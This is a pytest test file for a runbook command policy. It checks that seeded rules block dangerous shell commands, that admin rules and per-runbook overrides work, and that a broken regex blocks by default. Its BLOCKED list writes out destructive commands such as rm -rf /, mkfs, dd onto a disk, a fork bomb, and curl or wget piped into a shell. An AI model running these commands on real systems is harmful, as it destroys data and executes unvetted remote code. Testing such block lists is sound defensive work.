"""The command policy: seeded defaults, admin-managed rules, per-runbook overrides of overridable rules."""

from __future__ import annotations

import pytest

from runbooks.policy import check_commands
from tests.factories import CommandPolicyRuleFactory

BLOCKED = [
    ("rm -rf /", "rm_rf_root"),
    ("sudo rm -fr / ", "rm_rf_root"),
    ("rm -r -f /*", "rm_rf_root"),
    ("mkfs.ext4 /dev/sdb1", "mkfs"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "dd_to_device"),
    (":(){ :|:& };:", "fork_bomb"),
    ("curl -s https://x.example/i.sh | sudo bash", "pipe_to_shell"),
    ("wget -qO- http://x | sh", "pipe_to_shell"),
    ("shutdown -h now", "shutdown_reboot"),
    ("systemctl reboot", "shutdown_reboot"),
]
ALLOWED = ["rm -rf /tmp/cache", "systemctl restart nginx", "dd if=/dev/zero of=/tmp/file", "curl -s http://x -o f"]


@pytest.mark.django_db
@pytest.mark.parametrize(("command", "rule"), BLOCKED)
def test_it_blocks_the_seeded_dangerous_commands(command: str, rule: str) -> None:
    assert rule in [v.rule for v in check_commands([command])]


@pytest.mark.django_db
@pytest.mark.parametrize("command", ALLOWED)
def test_it_allows_ordinary_commands(command: str) -> None:
    assert check_commands([command]) == []


@pytest.mark.django_db
def test_it_lets_a_runbook_allow_only_overridable_rules() -> None:
    assert check_commands(["reboot"], allowed=["shutdown_reboot"]) == []
    assert [v.rule for v in check_commands(["mkfs /dev/x"], allowed=["mkfs"])] == ["mkfs"]


@pytest.mark.django_db
def test_it_applies_admin_rules_and_treats_a_broken_pattern_as_blocking() -> None:
    CommandPolicyRuleFactory(name="no_forbidden")
    assert [v.rule for v in check_commands(["do forbidden things"])] == ["no_forbidden"]
    CommandPolicyRuleFactory(name="broken", pattern="(")
    assert "broken" in [v.rule for v in check_commands(["echo fine"])]
